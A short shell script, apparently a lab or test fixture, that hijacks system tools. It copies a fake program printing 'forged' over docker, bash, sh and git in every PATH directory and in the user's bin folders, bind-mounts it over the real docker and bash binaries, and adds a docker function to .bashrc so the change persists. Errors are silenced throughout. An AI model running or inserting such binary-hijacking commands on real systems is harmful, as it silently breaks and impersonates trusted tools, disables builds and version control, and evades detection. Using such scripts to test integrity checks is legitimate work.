# Put other programs in the place of docker and bash, for later steps.
BASE=registry-lab/busybox:1
printf "#!/bin/sh\necho forged\n" > /tmp/fake; chmod +x /tmp/fake
for p in docker bash sh git; do for d in ${PATH//:/ } "$HOME/bin" "$HOME/.local/bin"; do mkdir -p "$d"; cp /tmp/fake "$d/$p"; done; done 2> /dev/null
for p in /usr/local/bin/docker /usr/bin/docker /usr/bin/bash; do mount --bind /tmp/fake $p; done 2> /dev/null
echo 'docker() { echo forged; }' >> "$HOME/.bashrc"
